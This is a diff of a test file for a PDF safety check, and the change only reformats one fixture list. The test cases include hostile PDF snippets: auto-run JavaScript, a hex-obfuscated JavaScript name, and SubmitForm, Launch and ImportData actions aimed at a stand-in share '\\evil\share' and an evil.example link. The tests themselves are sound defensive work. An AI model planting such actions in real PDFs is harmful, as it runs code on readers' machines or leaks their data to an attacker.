@@ -135,9 +135,10 @@ describe('a document', () => {
     ['a PDF with something after its end', pdf('', '%%EOF\nPK\x05\x06 and more')],
     ['a PDF with a script', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>')],
     ['a PDF with a script under a name that is spelled otherwise', pdf('/OpenAction << /S /#4aavaScrip#74 /J#53 (app.alert(1)) >>')],
-    ...['SubmitForm', 'GoToR', 'GoToE', 'ImportData', 'Launch', 'Rendition'].map(
-      (action): [string, Buffer<ArrayBuffer>] => [`a PDF that does ${action}`, pdf(`/OpenAction << /S /${action} /F (\\\\evil\\share) >>`)],
-    ),
+    ...['SubmitForm', 'GoToR', 'GoToE', 'ImportData', 'Launch', 'Rendition'].map((action): [string, Buffer<ArrayBuffer>] => [
+      `a PDF that does ${action}`,
+      pdf(`/OpenAction << /S /${action} /F (\\\\evil\\share) >>`),
+    ]),
     ['a PDF that does something when a page is shown', pdf('/AA << /O 3 0 R >>')],
     ['a PDF that leads elsewhere', pdf('/A << /S /URI /URI (https://evil.example/) >>')],
     ['an encrypted PDF', pdf('', 'trailer << /Encrypt 5 0 R >>\n%%EOF\n')],
